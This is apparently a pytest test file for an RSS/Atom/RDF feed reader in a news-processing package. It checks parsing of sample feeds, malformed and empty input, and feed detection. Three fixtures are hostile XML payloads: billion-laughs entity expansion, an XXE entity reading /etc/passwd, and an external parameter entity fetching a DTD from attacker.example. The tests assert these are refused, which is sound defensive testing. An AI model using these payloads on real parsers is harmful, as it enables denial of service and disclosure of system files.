"""RSS and Atom feeds: every feed is written here by hand, hostile ones included."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsgraph.errors import (
    EmptyInputError,
    HostileInputError,
    InputError,
    MalformedInputError,
    UnsupportedInputError,
)
from newsgraph.inputs.feeds import looks_like_feed, read_feed
from newsgraph.records import Metadata, PartialDate, RawDocument

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>Harbour Gazette</title>
  <link>https://gazette.example/</link>
  <item>
    <title>Storm closes port</title>
    <link>https://gazette.example/storm</link>
    <dc:creator>Ana Lima</dc:creator>
    <pubDate>Fri, 16 Jan 2026 10:30:00 GMT</pubDate>
    <description>Port shut.</description>
    <content:encoded><![CDATA[<p>The port closed on Friday, said Ana Lima.</p>]]></content:encoded>
  </item>
  <item>
    <title>Ferries resume</title>
    <link>https://gazette.example/ferries</link>
    <description>&lt;p&gt;Ferries sailed again at dawn.&lt;/p&gt;</description>
  </item>
  <item>
    <title>Mayor speaks</title>
    <link>https://gazette.example/mayor</link>
    <pubDate>sometime next week</pubDate>
    <description>&lt;p&gt;The mayor spoke.&lt;/p&gt;</description>
  </item>
  <item>
    <title>Blank</title>
    <link>https://gazette.example/blank</link>
    <description>   </description>
  </item>
  <item>
    <title>Greek date</title>
    <pubDate>Κυρ, 11 Ιούλ 2004 12:00:00 EST</pubDate>
    <description>&lt;p&gt;Old news.&lt;/p&gt;</description>
  </item>
</channel>
</rss>
""".encode()

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Valley Times</title>
  <id>urn:uuid:valley</id>
  <updated>2026-01-17T08:00:00Z</updated>
  <entry>
    <title>Bridge reopens</title>
    <link href="https://valley.example/bridge"/>
    <id>urn:uuid:1</id>
    <updated>2026-01-17T08:00:00Z</updated>
    <author><name>Ben Ode</name></author>
    <summary type="text">Open again.</summary>
    <content type="html">&lt;p&gt;The bridge reopened on Saturday.&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>Budget talks</title>
    <id>urn:uuid:2</id>
    <updated>2026-01</updated>
    <summary type="text">Talks &amp; tables &lt;continue&gt;.</summary>
  </entry>
  <entry>
    <title>Published wins</title>
    <link href="https://valley.example/pub"/>
    <id>urn:uuid:3</id>
    <published>2026-01-10</published>
    <updated>2026-01-18T09:15:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Filed.</p></div></content>
  </entry>
</feed>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol4;</title>
<item><title>x</title><description>&lol4;</description></item></channel></rss>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Leak</title>
<item><title>x</title><description>&xxe;</description></item></channel></rss>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>
"""

TRUNCATED = b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>Cut</title>
<item><title>Half an ite"""

NO_ITEMS = b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>Quiet</title><link>https://quiet.example/</link></channel></rss>
"""

RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
<channel rdf:about="https://rdf.example/"><title>RDF Daily</title><link>https://rdf.example/</link>
<description>d</description></channel>
<item rdf:about="https://rdf.example/1"><title>One</title><link>https://rdf.example/1</link>
<description>First item.</description></item>
</rdf:RDF>
"""

HOSTILE_MESSAGE = "feed XML declares entities or external references; refused"


def _documents(source: str, data: bytes) -> list[RawDocument | InputError]:
    return list(read_feed(source, data))


def test_rss_entry_keeps_content_encoded_html_and_rfc822_date() -> None:
    first = _documents("news.rss", RSS)[0]
    html = "<p>The port closed on Friday, said Ana Lima.</p>"
    assert first == RawDocument(
        source="news.rss#entry-1",
        raw_input=html.encode("utf-8"),
        media_type="text/html",
        metadata=Metadata(
            title="Storm closes port",
            url="https://gazette.example/storm",
            outlet="Harbour Gazette",
            author="Ana Lima",
            published=PartialDate("2026-01-16T10:30:00+00:00", "second"),
        ),
        html=html,
    )


def test_rss_entry_without_date_has_no_published_date() -> None:
    second = _documents("news.rss", RSS)[1]
    assert isinstance(second, RawDocument)
    assert second.source == "news.rss#entry-2"
    assert second.html == "<p>Ferries sailed again at dawn.</p>"
    assert second.text is None
    assert second.metadata == Metadata(
        title="Ferries resume", url="https://gazette.example/ferries", outlet="Harbour Gazette"
    )


def test_unreadable_date_is_left_unset_not_an_error() -> None:
    third = _documents("news.rss", RSS)[2]
    assert isinstance(third, RawDocument)
    assert third.metadata.title == "Mayor speaks"
    assert third.metadata.published is None


def test_entry_with_blank_body_is_yielded_as_empty_error_and_the_rest_go_on() -> None:
    results = _documents("news.rss", RSS)
    blank = results[3]
    assert isinstance(blank, EmptyInputError)
    assert blank.source == "news.rss#entry-4"
    assert blank.message == "feed entry 'Blank' has no content or summary"
    assert isinstance(results[4], RawDocument)
    assert len(results) == 5


def test_date_only_feedparser_reads_falls_back_to_its_utc_timestamp() -> None:
    greek = _documents("news.rss", RSS)[4]
    assert isinstance(greek, RawDocument)
    assert greek.metadata.url is None
    assert greek.metadata.published == PartialDate("2004-07-11T17:00:00+00:00", "second")


def test_atom_entry_takes_longest_body_and_updated_date() -> None:
    first = _documents("valley.atom", ATOM)[0]
    html = "<p>The bridge reopened on Saturday.</p>"
    assert first == RawDocument(
        source="valley.atom#entry-1",
        raw_input=html.encode("utf-8"),
        media_type="text/html",
        metadata=Metadata(
            title="Bridge reopens",
            url="https://valley.example/bridge",
            outlet="Valley Times",
            author="Ben Ode",
            published=PartialDate("2026-01-17T08:00:00+00:00", "second"),
        ),
        html=html,
    )


def test_atom_plain_text_body_is_text_not_html() -> None:
    second = _documents("valley.atom", ATOM)[1]
    text = "Talks & tables <continue>."
    assert second == RawDocument(
        source="valley.atom#entry-2",
        raw_input=text.encode("utf-8"),
        media_type="text/plain",
        metadata=Metadata(
            title="Budget talks", outlet="Valley Times", published=PartialDate("2026-01", "month")
        ),
        text=text,
    )


def test_atom_published_wins_over_updated_and_keeps_day_precision() -> None:
    third = _documents("valley.atom", ATOM)[2]
    assert isinstance(third, RawDocument)
    assert third.metadata.published == PartialDate("2026-01-10", "day")
    assert third.html is not None and "<p>Filed.</p>" in third.html


def test_entry_without_link_gets_no_url_rather_than_its_urn_id() -> None:
    second = _documents("valley.atom", ATOM)[1]
    assert isinstance(second, RawDocument)
    assert second.metadata.url is None


def test_rss_1_0_rdf_feed_is_read() -> None:
    [only] = _documents("daily.rdf", RDF)
    assert isinstance(only, RawDocument)
    assert only.source == "daily.rdf#entry-1"
    assert only.metadata.outlet == "RDF Daily"
    assert only.metadata.url == "https://rdf.example/1"
    assert only.html == "First item."


@pytest.mark.parametrize(
    ("data", "declared"),
    [
        (BILLION_LAUGHS, "EntitiesForbidden"),
        (XXE, "EntitiesForbidden"),
        (PARAMETER_ENTITY, "EntitiesForbidden"),
    ],
    ids=["billion-laughs", "xxe", "external-parameter-entity"],
)
def test_hostile_xml_is_refused_before_feedparser_sees_it(
    data: bytes, declared: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def must_not_parse(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser was given hostile XML")

    monkeypatch.setattr("feedparser.parse", must_not_parse)
    with pytest.raises(HostileInputError) as caught:
        _documents("evil.xml", data)
    assert caught.value.source == "evil.xml"
    assert caught.value.message == HOSTILE_MESSAGE
    assert caught.value.hint is not None and caught.value.hint.startswith(declared)


def test_external_dtd_without_entities_is_allowed() -> None:
    data = NO_ITEMS.replace(
        b"<rss ",
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss ',
    ).replace(b"</channel>", b"<item><description>Body.</description></item></channel>")
    [only] = _documents("old.rss", data)
    assert isinstance(only, RawDocument)
    assert only.html == "Body."


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (TRUNCATED, "feed XML is malformed at line 3, column 25: no element found"),
        (b"<rss><channel></rss>", "feed XML is malformed at line 1, column 17: mismatched tag"),
        (
            b"<!DOCTYPE rss [<!ELEMENT rss ANY>]><rss>&nbsp;</rss>",
            "feed XML is malformed at line 1, column 41: undefined entity",
        ),
        (b"not xml at all", "feed XML is malformed at line 1, column 1: syntax error"),
    ],
    ids=["truncated", "mismatched-tag", "entity-with-internal-subset", "not-xml"],
)
def test_malformed_xml_is_raised_with_its_position(data: bytes, message: str) -> None:
    with pytest.raises(MalformedInputError) as caught:
        _documents("broken.xml", data)
    assert caught.value.source == "broken.xml"
    assert caught.value.message == message


def test_html_entities_in_a_feed_without_declarations_are_read_leniently() -> None:
    data = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Harbour&nbsp;Daily</title>'
        b"<item><title>Crew&nbsp;released</title><link>https://harbour.example/a</link>"
        b"<description>The fourteen crew crossed the border&nbsp;on Tuesday.</description></item>"
        b"</channel></rss>"
    )
    [document] = _documents("lenient.rss", data)
    assert isinstance(document, RawDocument)
    assert document.metadata.title == "Crew\u00a0released"
    assert "crossed the border" in (document.html or "")


def test_feed_with_no_entries_is_raised_as_empty() -> None:
    with pytest.raises(EmptyInputError) as caught:
        _documents("quiet.rss", NO_ITEMS)
    assert caught.value.message == "feed has no entries"


@pytest.mark.parametrize("data", [b"", b"  \n\t"], ids=["no-bytes", "whitespace"])
def test_empty_file_is_raised_as_empty(data: bytes) -> None:
    with pytest.raises(EmptyInputError) as caught:
        _documents("empty.xml", data)
    assert caught.value.message == "the feed file is empty"


def test_xml_that_is_not_a_feed_is_unsupported() -> None:
    with pytest.raises(UnsupportedInputError) as caught:
        _documents("page.xml", b"<inventory><item>bolt</item></inventory>")
    assert caught.value.message == (
        "the XML is not an RSS or Atom feed (its root element is <inventory>)"
    )


def test_feed_bytes_are_never_taken_for_a_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "elsewhere.rss").write_bytes(RSS)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(MalformedInputError):
        _documents("name.rss", b"elsewhere.rss")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (RSS, True),
        (ATOM, True),
        (RDF, True),
        (b'<?xml version="1.0"?>\n<rss version="2.0"/>', True),
        (b'<atom:feed xmlns:atom="http://www.w3.org/2005/Atom">', True),
        (b"<feed><entry/></feed>", False),  # no Atom namespace
        (b"<!DOCTYPE html><html><head><title>rss</title></head></html>", False),
        (b'<?xml version="1.0"?><sitemap/>', False),
        (b'{"rss": true}', False),
        (b"", False),
        (b" " * 2000 + b"<rss>", False),  # past the sniffed first KB
    ],
    ids=["rss", "atom", "rdf", "rss-self-closed", "atom-prefixed", "feed-without-namespace",
         "html", "other-xml", "json", "empty", "too-late"],
)
def test_looks_like_feed(data: bytes, expected: bool) -> None:
    assert looks_like_feed(data) is expected


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300) | st.sampled_from([RSS, ATOM, NO_ITEMS, TRUNCATED]).flatmap(
    lambda feed: st.integers(0, len(feed)).map(lambda cut: feed[:cut])
))
def test_any_bytes_give_documents_or_input_errors_only(data: bytes) -> None:
    try:
        results = _documents("fuzz.xml", data)
    except InputError:
        return
    assert all(isinstance(result, RawDocument | InputError) for result in results)
